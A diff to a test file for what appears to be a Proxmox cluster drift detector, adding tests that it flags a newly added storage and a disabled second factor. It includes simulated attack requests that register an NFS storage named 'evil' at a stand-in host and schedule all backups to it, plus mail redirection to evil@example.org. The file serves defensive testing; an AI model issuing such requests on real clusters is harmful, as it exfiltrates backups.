@@ -153,6 +153,11 @@ NAS = {"type": "nfs", "storage": "nas", "content": "backup"}
 BACKUPS = {"type": "dir", "storage": "old", "content": "backup", "path": "/old"}
 CHANGED, UNDECLARED = "changed", "undeclared"
 
+CARRIED_AWAY = (
+    _post("storage", type="nfs", storage="evil", content="backup", server="e.x", export="/e"),
+    _post("cluster", "backup", id="exfil", all=1, storage="evil", schedule="04:00"),
+)
+
 ATTACKS: dict[str, tuple[str, str, tuple[Request, ...]]] = {
     "root's second factor removed": (
         CHANGED,
@@ -285,6 +290,7 @@ ATTACKS: dict[str, tuple[str, str, tuple[Request, ...]]] = {
         "backup.nightly",
         (_put(*JOB, notification_mode="legacy-sendmail", mailto="evil@example.org"),),
     ),
+    "backups carried away": (UNDECLARED, "backup.exfil", CARRIED_AWAY),
     "a script in a job": (CHANGED, "backup.nightly", (_put(*JOB, script="/root/x"),)),
 }
 """What was done -> the worst class of it, an object that is named, and the calls."""
@@ -321,6 +327,40 @@ def test_drift_rings(
     assert re.search(rf'^pvectl_drift_\w+\{{.*"({code}|alarm)"\}} [1-9]', samples, re.M)
     for secret in (KEY, "k3y-of-the-client", "AAAA"):
         assert secret not in ended.out + reports["json"].read_text()
+
+
+def test_a_new_storage_rings_until_it_is_acknowledged(
+    cluster: Cluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shutil.copytree(cluster.home, tmp_path / "home")
+    monkeypatch.setenv("PVECTL_HOME", str(tmp_path / "home"))
+    try:
+        SandboxApi(cluster.server.store.folder).send(CARRIED_AWAY[0])
+        for _ in range(2):
+            ended = cluster.drift()
+            assert ended.status == ExitStatus.CHANGES, ended
+            assert "extra    storage.evil" in ended.out
+        assert ask("drift", "--acknowledge").status == ExitStatus.CHANGES
+        for _ in range(2):
+            assert cluster.drift().status == ExitStatus.OK
+    finally:
+        restore(cluster.server.store.folder, cluster.files)
+
+
+def test_a_review_counts_no_disabled_factor(cluster: Cluster) -> None:
+    def factors() -> dict[str, str]:
+        accounts = json.loads(ask("report", "--format", "json").out)["accounts"]
+        users = [one for one in accounts if one["kind"] == "user"]
+        return {one["principal"]: one["second_factor"] for one in users}
+
+    disable = _put("access", "tfa", "alice@ldap", "bbbb", enable=0)
+    try:
+        SandboxApi(cluster.server.store.folder).send(_put(*ALICE, keys="x"))
+        assert factors()["alice@ldap"] == "yes"
+        SandboxApi(cluster.server.store.folder).send(disable)
+        assert factors()["alice@ldap"] == "none"
+    finally:
+        restore(cluster.server.store.folder, cluster.files)
 
 
 def test_nothing_rings_after_work_of_its_own(
